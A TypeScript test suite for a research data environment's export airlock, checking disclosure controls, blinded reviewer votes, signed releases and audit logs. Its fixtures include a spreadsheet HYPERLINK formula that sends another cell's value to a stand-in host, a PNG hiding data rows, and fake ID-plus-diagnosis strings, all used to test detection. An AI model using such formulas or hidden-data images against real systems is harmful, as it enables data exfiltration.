import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { compactVerify, createLocalJWKSet } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startAirlockAgent, type AirlockAgentProcess } from "../../../test/airlock-agent-process";
import type { CookieClient } from "../../../test/cookie-client";
import { insertEnvironment } from "../../../test/environment-rows";
import { startStack, type Stack } from "../../../test/stack";
import { eventually } from "../../../test/eventually";
import { callTrpc } from "../../../test/trpc-call";
import { examplePermit } from "../../permits/test-fixtures";
import { HIDDEN_ROWS, pngWithHiddenRows } from "../images/test-fixtures";

const sha256 = (bytes: string | Buffer) => createHash("sha256").update(bytes).digest("hex");

/** A frequency table every cell of which passes the default profile (counts ≥ 10). */
const SAFE_TABLE = "region,count\n01,120\n12,95\n14,210\n";
/** One cell under the threshold. */
const SMALL_CELL_TABLE = "region,count\n01,120\n12,4\n";

describe("export requests through the API, with a real airlock agent", () => {
  let outbox: string;
  let agent: AirlockAgentProcess;
  let stack: Stack;
  let namespace: string;
  let alice: CookieClient, bob: CookieClient, karin: CookieClient, kalle: CookieClient, ida: CookieClient;
  const call = (who: CookieClient, path: string, input?: unknown, method: "GET" | "POST" = "POST") =>
    callTrpc(who, stack.appUrl, path, input, method);
  const query = (who: CookieClient, path: string, input?: unknown) => call(who, path, input, "GET");
  const put = (name: string, content: string | Buffer) => {
    mkdirSync(join(outbox, name, ".."), { recursive: true });
    writeFileSync(join(outbox, name), content);
  };
  const quarantined = () =>
    existsSync(join(stack.config.DATA_DIR, "quarantine")) ? readdirSync(join(stack.config.DATA_DIR, "quarantine")) : [];

  beforeAll(async () => {
    outbox = mkdtempSync(join(tmpdir(), "spe-outbox-"));
    agent = await startAirlockAgent(outbox);
    stack = await startStack({ AIRLOCK_AGENT_URL: agent.url });
    const bobPerson = { subject: "bob", name: "Bob Berg", email: "bob@uni.example" };
    const permit = examplePermit({ permitId: `SE-EXPORT-${Date.now().toString(36)}` });
    namespace = await insertEnvironment(stack.services.database.db, {
      ...permit,
      authorisedPersons: [permit.principalInvestigator, bobPerson],
    });
    [alice, bob, karin, kalle, ida] = [
      await stack.signIn("alice"),
      await stack.signIn("bob"),
      await stack.signIn("karin"),
      await stack.signIn("kalle"),
      await stack.signIn("ida"),
    ];
  });
  afterAll(async () => {
    await stack?.stop();
    await agent?.stop();
  });

  async function draft(files: Array<{ path: string; type: string }>, who = alice): Promise<string> {
    const created = await call(who, "exports.create", {
      namespace,
      title: "Strokes per region",
      justification: "Counts of first strokes per county, 2015–2024.",
      files,
    });
    expect(created.error).toBeUndefined();
    return (created.data as { id: string }).id;
  }

  it("shows the outbox and the checks of a file before anything is submitted", async () => {
    put("tables/strokes.csv", SAFE_TABLE);
    put("tables/small.csv", SMALL_CELL_TABLE);
    const listed = await query(alice, "exports.outbox", { namespace });
    expect((listed.data as Array<{ path: string }>).map((f) => f.path).sort()).toEqual([
      "tables/small.csv",
      "tables/strokes.csv",
    ]);
    const pre = await call(alice, "exports.precheck", { namespace, path: "tables/small.csv", type: "frequency" });
    expect(pre.error).toBeUndefined();
    expect(pre.data).toMatchObject({ status: "fail" });
    expect(JSON.stringify(pre.data)).toContain('"row":2');
    // Someone not on the permit learns nothing about the environment, and the attempt is in the access log.
    const stranger = await query(karin, "exports.outbox", { namespace });
    expect(stranger.error?.data.code).toBe("FORBIDDEN");
    const refused = await eventually("the refusal is recorded", async () => {
      const events = (await query(ida, "audit.events", { action: "access.refused", actor: "karin" })).data as Array<{
        target: string;
        details: { code: string };
      }>;
      return events.length > 0 && events;
    });
    expect(refused[0]).toMatchObject({ target: "procedure:exports.outbox", details: { code: "FORBIDDEN" } });
  });

  it("quotes nothing of a file in a precheck or a researcher's report, which the checkers' report does, and audits every precheck", async () => {
    // The reviewer's probe: text where counts belong came back verbatim in the precheck's report.
    const secret = "199001011234";
    const leaky = `group,count\na,${secret} diabetes E11\nb,198512249876 HIV B20\nc,4\n`;
    put("tables/leaky.csv", leaky);
    const pre = await call(alice, "exports.precheck", { namespace, path: "tables/leaky.csv", type: "frequency" });
    expect(pre.data).toMatchObject({
      status: "fail",
      report: {
        cells: [
          { row: 1, column: "count", status: "review" },
          { row: 2, column: "count", status: "review" },
          { row: 3 },
        ],
      },
    });
    expect(JSON.stringify(pre.data)).not.toMatch(/199001011234|198512249876|diabetes|HIV|count 4\b/);
    expect(pre.data).toMatchObject({ report: { cells: [{}, {}, { reasons: ["a count below the threshold 10"] }] } });
    const refused = await call(alice, "exports.precheck", { namespace, path: "tables/absent.csv", type: "frequency" });
    expect(refused.error?.data.speCode).toBe("EXPORT_FILE_REFUSED");

    const prechecks = (await query(ida, "audit.events", { action: "export.prechecked", actor: "alice" }))
      .data as Array<{ target: string; details: Record<string, unknown> }>;
    const checked = prechecks.find((e) => e.details.path === "tables/leaky.csv")!;
    expect(checked).toMatchObject({
      target: `environment:${namespace}`,
      details: {
        type: "frequency",
        sha256: sha256(leaky),
        size: leaky.length,
        status: "fail",
        cellsFailed: 1,
        cellsToReview: 2,
      },
    });
    expect(prechecks.find((e) => e.details.path === "tables/absent.csv")).toMatchObject({
      details: { status: "refused", code: "EXPORT_FILE_REFUSED" },
    });
    expect(JSON.stringify(prechecks)).not.toMatch(/199001011234|diabetes/);

    // Submitted, the same file's report is what the researcher's page shows: no more of the file there.
    const id = await draft([{ path: "tables/leaky.csv", type: "frequency" }]);
    expect((await call(alice, "exports.submit", { id })).error).toBeUndefined();
    const mine = await query(alice, "exports.get", { id });
    expect(mine.data).toMatchObject({ files: [{ checkStatus: "fail" }] });
    expect(JSON.stringify(mine.data)).not.toMatch(/199001011234|198512249876|diabetes|HIV|count 4\b/);
    expect(mine.data).toMatchObject({
      files: [
        {
          checkReport: {
            cells: [{ reasons: ["not a whole-number count"] }, {}, { reasons: ["a count below the threshold 10"] }],
          },
        },
      ],
    });
    // The output checkers judge the same report with what the checks read there: the count, the text.
    const checkers = (await query(karin, "reviews.get", { id })).data as {
      files: Array<{ checkReport: { cells: Array<{ row: number; reasons: string[] }> } }>;
    };
    expect(checkers.files[0]!.checkReport.cells).toMatchObject([
      { row: 1, reasons: [`"${secret} diabetes E11" is not a whole-number count`] },
      { row: 2, reasons: ['"198512249876 HIV B20" is not a whole-number count'] },
      { row: 3, reasons: ["count 4 is below the threshold 10"] },
    ]);
    await call(alice, "exports.withdraw", { id });
  });

  it("checks histograms, survival tables and tables declared as something else, and flags formula cells", async () => {
    put("figures/age.csv", "lower,upper,count\n18,30,14\n30,50,52\n50,,11\n");
    put("figures/km.csv", "time,n_risk,n_event\n0,412,0\n12,380,3\n");
    put("misc/links.csv", 'region,count\n"=HYPERLINK(""https://x.example/?""&B3)",120\nB,4\n');
    const precheck = async (path: string, type: string) =>
      (await call(alice, "exports.precheck", { namespace, path, type })).data as {
        status: string;
        report: { checks: Array<{ name: string; status: string }>; cells: Array<{ row: number; column: string }> };
      };
    const histogram = await precheck("figures/age.csv", "histogram");
    expect(histogram.status).toBe("review");
    expect(histogram.report.cells).toMatchObject([{ row: 1, column: "lower" }]);
    const survival = await precheck("figures/km.csv", "survival");
    expect(survival.status).toBe("fail");
    expect(survival.report.cells).toMatchObject([{ row: 2, column: "n_event" }]);
    const other = await precheck("misc/links.csv", "other");
    expect(other.status).toBe("fail");
    expect(other.report.checks.map((c) => `${c.name}:${c.status}`)).toEqual([
      "declared-type:review",
      "threshold:fail",
      "zeros:pass",
      "formula-cells:review",
    ]);
    // The researcher sees where, not what: the formula's text stays in the file.
    expect(JSON.stringify(other)).not.toMatch(/HYPERLINK|x\.example/);
  });

  it("flags a table that, with one released before over the same population, reveals a count of 3", async () => {
    const population = "first strokes 2015-2024";
    put("tables/age-a.csv", "age,count\n0-49,40\n50+,60\n");
    put("tables/age-b.csv", "age,count\n0-44,37\n45+,63\n");
    const declared = (path: string) => ({ path, type: "frequency", population, dimensions: ["age"] });
    const first = await draft([declared("tables/age-a.csv")]);
    await call(alice, "exports.submit", { id: first });
    for (const checker of [karin, kalle])
      await call(checker, "reviews.vote", { id: first, path: "tables/age-a.csv", version: 1, vote: "approve" });
    expect(((await query(alice, "exports.get", { id: first })).data as { state: string }).state).toBe("released");

    const second = await draft([declared("tables/age-b.csv")]);
    await call(alice, "exports.submit", { id: second });
    type Seen = { files: Array<{ checkStatus: string; checkReport: { checks: Array<Record<string, string>> } }> };
    const checker = (await query(karin, "reviews.get", { id: second })).data as Seen;
    expect(checker.files[0]!.checkStatus).toBe("review");
    expect(checker.files[0]!.checkReport.checks.at(-1)).toMatchObject({
      name: "differencing",
      status: "review",
      message: expect.stringContaining("age 45–49 (3) with tables/age-a.csv"),
    });
    // The researcher learns that the tables together go to a checker, not what they reveal.
    const mine = (await query(alice, "exports.get", { id: second })).data as Seen;
    expect(mine.files[0]!.checkReport.checks.at(-1)).toMatchObject({ name: "differencing", status: "review" });
    expect(JSON.stringify(mine)).not.toMatch(/45–49|\(3\)/);
    await call(alice, "exports.withdraw", { id: second });

    const undeclared = await call(alice, "exports.create", {
      namespace,
      title: "Half declared",
      justification: "A population without its dimensions.",
      files: [{ path: "tables/age-b.csv", type: "frequency", population }],
    });
    expect(undeclared.error?.message).toMatch(/declare a population together with dimensions/);
  });

  it("refuses files that may not leave, before anything is copied", async () => {
    const notebook = await call(alice, "exports.create", {
      namespace,
      title: "Notebook",
      justification: "The whole analysis notebook please.",
      files: [{ path: "analysis.ipynb", type: "code" }],
    });
    expect(notebook.error?.data.speCode).toBe("EXPORT_FILE_REFUSED");
    expect(notebook.error?.message).toMatch(/must end in \.py/);
    const twice = await call(alice, "exports.create", {
      namespace,
      title: "Twice",
      justification: "The same table twice over.",
      files: [
        { path: "a.csv", type: "frequency" },
        { path: "a.csv", type: "frequency" },
      ],
    });
    expect(twice.error?.message).toMatch(/picked twice/);
    const vector = await call(alice, "exports.create", {
      namespace,
      title: "Curve",
      justification: "The survival curve as a vector figure.",
      files: [{ path: "figures/curve.svg", type: "figure" }],
    });
    expect(vector.error?.data.speCode).toBe("EXPORT_FILE_REFUSED");
    expect(vector.error?.message).toMatch(/SVG and PDF figures .* Save the figure as PNG/);
  });

  it("refuses an image that does not decode, or a table named as an image, and keeps nothing", async () => {
    put("broken.png", (await pngWithHiddenRows()).subarray(0, 300));
    put("table.png", SAFE_TABLE);
    const before = quarantined();
    for (const [path, message] of [
      ["broken.png", /The image cannot be read/],
      ["table.png", /is text, but its name ends in \.png/],
    ] as const) {
      const id = await draft([{ path, type: "figure" }]);
      const failed = await call(alice, "exports.submit", { id });
      expect(failed.error?.data.speCode).toBe("EXPORT_FILE_REFUSED");
      expect(failed.error?.message).toMatch(message);
    }
    expect(quarantined().sort()).toEqual(before.sort());
  });

  it("takes a request through two blinded votes to a signed release, and serves exactly the bytes reviewed", async () => {
    // The figure: 200 data rows in a text chunk and after the image's end.
    const figure = await pngWithHiddenRows();
    put("fig.png", figure);
    const id = await draft([
      { path: "tables/strokes.csv", type: "frequency" },
      { path: "fig.png", type: "figure" },
    ]);
    const submitted = await call(alice, "exports.submit", { id });
    expect(submitted.data).toMatchObject({ state: "submitted" });
    // The outbox changes after submission: the request keeps what was submitted.
    put("tables/strokes.csv", "region,count\n01,1\n");

    const queue = await query(karin, "reviews.queue");
    expect(queue.error).toBeUndefined();
    expect(queue.data).toEqual(expect.arrayContaining([expect.objectContaining({ id, files: 2, awaitingMe: 2 })]));
    const seen = await query(karin, "reviews.get", { id });
    const files = (
      seen.data as { files: Array<{ path: string; version: number; checkStatus: string; sha256: string }> }
    ).files;
    expect(files.find((f) => f.path === "tables/strokes.csv")).toMatchObject({
      checkStatus: "pass",
      sha256: sha256(SAFE_TABLE),
    });
    // Checkers see (and the release will carry) the image re-encoded, with the hash of what was submitted.
    const fig = files.find((f) => f.path === "fig.png") as (typeof files)[number] & { submittedSha256: string };
    expect(fig).toMatchObject({ checkStatus: "review", submittedSha256: sha256(figure) });
    expect(fig.sha256).not.toBe(sha256(figure));
    expect(quarantined()).not.toContain(sha256(figure));
    const figurePreview = Buffer.from(
      await (await karin.request(`${stack.appUrl}/reviews/${id}/file?path=fig.png`)).arrayBuffer(),
    );
    expect(sha256(figurePreview)).toBe(fig.sha256);

    const preview = await karin.request(
      `${stack.appUrl}/reviews/${id}/file?path=${encodeURIComponent("tables/strokes.csv")}`,
    );
    expect(preview.headers.get("content-security-policy")).toContain("sandbox");
    expect(await preview.text()).toBe(SAFE_TABLE);

    // Researchers cannot vote at all; the requester's colleague on the permit neither.
    expect(
      (await call(bob, "reviews.vote", { id, path: "fig.png", version: 1, vote: "approve" })).error?.data.code,
    ).toBe("FORBIDDEN");
    for (const f of files)
      expect(
        (await call(karin, "reviews.vote", { id, path: f.path, version: f.version, vote: "approve" })).error,
      ).toBeUndefined();
    expect(
      (await call(karin, "reviews.vote", { id, path: "fig.png", version: 1, vote: "approve" })).error?.data.speCode,
    ).toBe("EXPORT_VOTE_REFUSED");

    // Blinded: kalle sees that a vote is in, not what it was.
    const blind = (await query(kalle, "reviews.get", { id })).data as {
      state: string;
      files: Array<{ votesIn: number; votes: unknown[] }>;
    };
    expect(blind.state).toBe("in_review");
    expect(blind.files.every((f) => f.votesIn === 1 && f.votes.length === 0)).toBe(true);
    for (const f of files)
      await call(kalle, "reviews.vote", { id, path: f.path, version: f.version, vote: "approve", comment: "Fine." });

    const released = (await query(alice, "exports.get", { id })).data as {
      state: string;
      released: boolean;
      files: Array<{ reviews: unknown[] }>;
    };
    expect(released).toMatchObject({ state: "released", released: true });
    expect(released.files.every((f) => f.reviews.length === 2)).toBe(true);

    const download = await alice.request(
      `${stack.appUrl}/exports/${id}/files?path=${encodeURIComponent("tables/strokes.csv")}`,
    );
    expect(download.status).toBe(200);
    expect(await download.text()).toBe(SAFE_TABLE);
    const figureOut = Buffer.from(
      await (await alice.request(`${stack.appUrl}/exports/${id}/files?path=fig.png`)).arrayBuffer(),
    );
    expect(sha256(figureOut)).toBe(fig.sha256);
    expect(figureOut.subarray(0, 8)).toEqual(figure.subarray(0, 8));
    expect(figureOut.includes(Buffer.from(HIDDEN_ROWS.slice(0, 30)))).toBe(false);
    expect(
      (await karin.request(`${stack.appUrl}/exports/${id}/files?path=${encodeURIComponent("tables/strokes.csv")}`))
        .status,
    ).toBe(404);

    const jws = await (await bob.request(`${stack.appUrl}/exports/${id}/release-record`)).text();
    const keys = (await (await fetch(`${stack.appUrl}/.well-known/spe-release-keys.json`)).json()) as { keys: [] };
    const { payload } = await compactVerify(jws, createLocalJWKSet(keys));
    const record = JSON.parse(new TextDecoder().decode(payload)) as {
      released: Array<{ path: string; sha256: string; reviews: Array<{ checker: string }> }>;
    };
    expect(record.released.find((f) => f.path === "tables/strokes.csv")).toMatchObject({ sha256: sha256(SAFE_TABLE) });
    expect(record.released.find((f) => f.path === "fig.png")).toMatchObject({
      sha256: fig.sha256,
      submittedSha256: sha256(figure),
    });
    // The researcher's copy names no checker (docs/architecture.md#data-out); the auditor's, as signed, does.
    expect(record.released[0]!.reviews).toHaveLength(2);
    expect(JSON.stringify(record)).not.toMatch(/kalle|karin|checker/);
    const whole = await (await ida.request(`${stack.appUrl}/exports/${id}/release-record`)).text();
    const audited = JSON.parse(
      new TextDecoder().decode((await compactVerify(whole, createLocalJWKSet(keys))).payload),
    ) as typeof record;
    expect(audited.released[0]!.reviews.map((r) => r.checker).sort()).toEqual(["kalle", "karin"]);

    const events = (await query(ida, "audit.events", { target: `export:${id}` })).data as Array<{ action: string }>;
    const actions = events.map((e) => e.action);
    for (const action of [
      "export.created",
      "export.submitted",
      "export.viewed",
      "export.file-viewed",
      "export.vote-cast",
      "export.decided",
      "export.released",
      "export.downloaded",
    ])
      expect(actions).toContain(action);

    // The supervisor's evidence report names the export, its files' hashes and who reviewed them.
    const evidence = (await query(ida, "audit.evidence", { namespace })).data as {
      requirements: Array<{
        requirement: string;
        evidence: {
          exports?: Array<{
            id: string;
            released: boolean;
            files: Array<{ path: string; sha256: string; reviews: Array<{ checker: string }> }>;
          }>;
        };
      }>;
    };
    const exported = evidence.requirements.flatMap((r) => r.evidence.exports ?? []).find((e) => e.id === id)!;
    expect(exported.released).toBe(true);
    expect(exported.files.find((f) => f.path === "tables/strokes.csv")).toMatchObject({
      sha256: sha256(SAFE_TABLE),
      reviews: [{ checker: "karin" }, { checker: "kalle" }],
    });
  });

  it("sends a request back for changes; a new version of a file starts its votes afresh", async () => {
    put("tables/small.csv", SMALL_CELL_TABLE);
    const id = await draft([{ path: "tables/small.csv", type: "frequency" }]);
    await call(alice, "exports.submit", { id });
    expect(
      (await call(karin, "reviews.vote", { id, path: "tables/small.csv", version: 1, vote: "request_changes" })).error
        ?.data.speCode,
    ).toBe("EXPORT_VOTE_REFUSED");
    for (const checker of [karin, kalle])
      await call(checker, "reviews.vote", {
        id,
        path: "tables/small.csv",
        version: 1,
        vote: "request_changes",
        comment: "Suppress the cell under 10.",
      });
    expect(((await query(alice, "exports.get", { id })).data as { state: string }).state).toBe("changes_requested");
    expect((await call(alice, "exports.submit", { id })).error?.message).toMatch(/revise it before resubmitting/);

    put("tables/small.csv", "region,count\n01,120\n12,<10\n");
    expect((await call(alice, "exports.revise", { id, path: "tables/small.csv" })).data).toEqual({ version: 2 });
    expect((await call(alice, "exports.submit", { id })).data).toMatchObject({
      state: "submitted",
      files: [{ version: 2 }],
    });
    const again = (await query(karin, "reviews.get", { id })).data as {
      files: Array<{ version: number; votesIn: number; awaitingMe: boolean }>;
    };
    expect(again.files).toEqual([expect.objectContaining({ version: 2, votesIn: 0, awaitingMe: true })]);
  });

  it("lets the requester withdraw, and nobody else", async () => {
    const id = await draft([{ path: "tables/strokes.csv", type: "frequency" }]);
    expect((await call(bob, "exports.withdraw", { id })).error?.data.speCode).toBe("EXPORT_REQUEST_STATE_CONFLICT");
    expect((await call(alice, "exports.withdraw", { id })).error).toBeUndefined();
    expect((await call(alice, "exports.submit", { id })).error?.message).toMatch(/withdrawn/);
  });

  it("keeps nothing when a submission fails part-way", async () => {
    put("ok.csv", SAFE_TABLE);
    put("huge.csv", `region,count\n${"01,10\n".repeat(5001)}`);
    const before = quarantined();
    const id = await draft([
      { path: "ok.csv", type: "frequency" },
      { path: "huge.csv", type: "frequency" },
    ]);
    const failed = await call(alice, "exports.submit", { id });
    expect(failed.error?.data.speCode).toBe("EXPORT_FILE_REFUSED");
    expect(failed.error?.message).toMatch(/5001 rows; at most 5000/);
    expect(((await query(alice, "exports.get", { id })).data as { state: string }).state).toBe("draft");
    expect(quarantined().sort()).toEqual(before.sort());
  });
});
